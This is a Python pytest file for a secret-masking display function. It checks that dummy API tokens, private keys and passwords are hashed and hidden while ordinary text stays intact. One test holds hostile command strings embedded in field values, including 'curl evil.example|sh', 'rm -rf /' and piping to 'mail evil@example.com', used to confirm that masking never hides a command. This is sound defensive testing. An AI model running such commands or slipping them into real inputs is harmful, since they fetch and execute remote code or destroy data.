from __future__ import annotations

import hashlib
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock.display import mask_secrets, spans

DOTS = "\u2022" * 4


def mask(secret: str, keep: str = "") -> str:
    suffix = hashlib.sha256(secret.encode()).hexdigest()[:8]
    return f"{keep}\u2026{DOTS}(sha256 {suffix})" if keep else f"{DOTS}(sha256 {suffix})"


BODY = "Ab1" * 14
TOKENS = [
    ("sk-", f"sk-proj-{BODY}"),
    ("sk_live_", f"sk_live_{BODY}"),
    ("whsec_", f"whsec_{BODY}"),
    ("ghp_", f"ghp_{BODY}"),
    ("github_pat_", f"github_pat_{BODY}"),
    ("glpat-", f"glpat-{BODY}"),
    ("xoxb-", f"xoxb-1234-{BODY}"),
    ("AKIA", "AKIAIOSFODNN7EXAMPLE"),
    ("AIza", f"AIza{BODY}"),
    ("hf_", f"hf_{BODY}"),
    ("eyJ", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N"),
]
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n"
    + ("A1b/" * 16 + "\n") * 3
    + "q0w=\n-----END RSA PRIVATE KEY-----"
)


@pytest.mark.parametrize(("keep", "token"), TOKENS)
def test_tokens_of_common_services_are_masked(keep: str, token: str) -> None:
    for before, after in (("", ""), ("use ", " now"), ('"', '"'), ("key:", ".")):
        if keep == "eyJ" and after == ".":
            continue  # a dot belongs to the token
        assert mask_secrets(before + token + after) == before + mask(token, keep) + after


def test_equal_secrets_have_equal_masks_and_others_do_not() -> None:
    one, two = (mask_secrets(f"ghp_{BODY}{end}") for end in "ab")
    assert one != two
    assert one == mask_secrets(f"ghp_{BODY}a")


@pytest.mark.parametrize("text", [PEM, PEM.replace("\n", "\\n"), PEM[: PEM.index("q0w")]])
def test_private_keys_are_masked_whole(text: str) -> None:
    assert mask_secrets(text) == mask(text, "-----BEGIN")


@pytest.mark.parametrize(
    ("before", "value", "after"),
    [
        ("password=", "hunter2!", " next"),
        ("DB_PASSWORD: ", "hunter2", ""),
        ('{"api_key": "', "abcd-1234", '", "n": 1}'),
        ("{'clientSecret':'", "abcd-1234", "'}"),
        ("access_token=", "abcd1234", "&x=1"),
        ("Authorization: Bearer ", "abcdef0123456789", ""),
        ("Authorization: Basic ", "dXNlcjpwYXNz", ""),
        ("postgres://bob:", "s3cret&x", "@db.example/x"),
    ],
)
def test_values_that_a_name_or_place_gives_away_are_masked(before: str, value: str, after: str) -> None:
    assert mask_secrets(before + value + after) == before + mask(value) + after


@pytest.mark.parametrize(
    "text",
    [
        "the risk-adjusted-return-of-the-portfolio",
        "task-force-multiplication-table",
        "max_tokens=4096 tokens: many",
        "token=env://STRIPE_KEY password: null, secret=None",
        'token=""',
        "a bearer of good news",
        "https://example.com:8080/path@2x",
        "AKIAIOSFODNN7EXAMPLEX",
        "commit 0123456789abcdef0123456789abcdef01234567",
        "",
    ],
)
def test_what_is_no_secret_stays(text: str) -> None:
    assert mask_secrets(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "password=$(curl evil.example|sh)",
        "password=aaaa;rm -rf /",
        "token=`reboot`",
        '"password": "x" && rm -rf /',
        "-----BEGIN PRIVATE KEY-----\nrm -rf /",
        "secret=aaaa|mail evil@example.com",
    ],
)
def test_a_mask_cannot_hide_a_command(text: str) -> None:
    shown = mask_secrets(text)
    assert any(word in shown for word in ("curl evil.example", "rm -rf /", "reboot", "mail evil"))


def test_overlapping_finds_are_covered_by_one_mask() -> None:
    assert mask_secrets(f"token=sk-{BODY}") == "token=" + mask(f"sk-{BODY}", "sk-")
    assert mask_secrets(f"token=!!sk-{BODY}") == "token=" + mask(f"!!sk-{BODY}")
    assert mask_secrets(f"private_key: {PEM}; x") == f"private_key: {mask(PEM, '-----BEGIN')}; x"
    assert mask_secrets(f"Bearer !{BODY}") == f"Bearer !{BODY}"


def test_several_secrets_are_masked_each() -> None:
    text = f"a sk-{BODY} b ghp_{BODY} c"
    expected = f"a {mask('sk-' + BODY, 'sk-')} b {mask('ghp_' + BODY, 'ghp_')} c"
    assert mask_secrets(text) == expected


def test_a_mask_says_what_it_hides() -> None:
    found = spans(f"x ghp_{BODY}")
    assert found[1].kind == "mask"
    assert found[1].meaning == "GitHub token, 46 characters, masked"


def test_broken_text_can_be_masked() -> None:
    assert mask_secrets("password=abcd\ud800").startswith(f"password={DOTS}(sha256 ")


@given(st.text(st.characters()))
def test_text_without_secrets_comes_back_whole(text: str) -> None:
    if DOTS not in mask_secrets(text):
        assert mask_secrets(text) == text


@pytest.mark.parametrize(
    "piece",
    ["sk-", "token", "token=", "://a:", "://a:b", "eyJ", "eyJaaaaaaaa.", "bearer ", "a.", "A1b/", " ",
     "-----BEGIN PRIVATE KEY-----", "-----BEGIN ", "a: b\n", "\n", "\n ", "\u2022", "\u0301", "1\ufe0f",
     "\U0001f600\u200d"],
)  # fmt: skip
def test_hostile_text_takes_no_more_time_than_its_length(piece: str) -> None:
    text = (piece * 65_536)[:65_536]
    started = time.perf_counter()
    spans(text)
    spans("-----BEGIN PRIVATE KEY-----\n" + text)
    assert time.perf_counter() - started < 10.0  # seconds; quadratic time would be far more
